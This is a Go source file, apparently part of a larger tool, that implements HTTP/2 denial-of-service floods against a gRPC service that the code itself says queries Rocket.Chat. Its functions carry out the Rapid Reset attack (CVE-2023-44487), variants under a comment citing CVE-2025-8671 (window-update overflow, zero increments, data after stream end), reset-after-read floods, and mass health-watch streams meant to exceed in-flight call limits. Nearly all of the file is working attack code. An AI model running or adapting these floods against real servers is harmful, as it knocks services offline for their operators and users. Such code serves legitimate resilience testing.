package main

import (
	"bytes"
	"context"
	"fmt"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// head is the head of a call, without the tables that a connection shares, so that it is the same on
// any stream.
func head(path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: "facade"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
		{Name: "x-user-id", Value: userID},
		{Name: "x-auth-token", Value: authToken},
	}, more...) {
		field.Sensitive = true
		encoder.WriteField(field)
	}
	return block.Bytes()
}

var (
	watchHead   = head(healthWatch)
	getInfoHead = head(getInfo)
	getInfoBody = framed(request(callID))
)

// open begins a call, whose message is to come.
func (p *peer) open(block []byte) uint32 {
	id := p.next()
	p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
	return id
}

// ask sends a whole call.
func (p *peer) ask(message []byte) uint32 {
	id := p.open(getInfoHead)
	p.WriteData(id, true, message)
	return id
}

// rapidReset begins calls and takes them back (CVE-2023-44487): half of them before their message,
// half after it.
func rapidReset(ctx context.Context, t *target) {
	t.flood(ctx, 8, nobody, func(number int, p *peer) {
		var id uint32
		if number%2 == 0 {
			id = p.open(getInfoHead)
		} else {
			id = p.ask(getInfoBody)
		}
		p.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// resetReads takes calls back each of which has had something asked of Rocket.Chat.
func resetReads(ctx context.Context, t *target) {
	t.flood(ctx, 8, nobody, func(number int, p *peer) {
		id := p.ask(framed(request(fmt.Sprint("reset-", number, "-", p.stream))))
		p.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// windowOverflow and the two after it make the server reset streams whose calls run (CVE-2025-8671).
func windowOverflow(ctx context.Context, t *target) {
	t.flood(ctx, 8, nobody, func(_ int, p *peer) {
		p.WriteWindowUpdate(p.ask(getInfoBody), 1<<31-1)
	})
}

func incrementZero(ctx context.Context, t *target) {
	t.flood(ctx, 8, nobody, func(_ int, p *peer) {
		p.WriteWindowUpdate(p.ask(getInfoBody), 0)
	})
}

func dataAfterEnd(ctx context.Context, t *target) {
	t.flood(ctx, 8, nobody, func(_ int, p *peer) {
		p.WriteData(p.ask(getInfoBody), true, []byte("more"))
	})
}

// watches keeps 12,000 streams of health on 60 connections, more than calls may be in flight: whoever can connect may
// begin them, and they go on.
func watches(ctx context.Context, t *target) {
	t.keep(ctx, 60, func(p *peer) {
		for range 200 {
			p.WriteData(p.open(watchHead), true, framed(nil))
			t.done.Add(1)
		}
	})
}
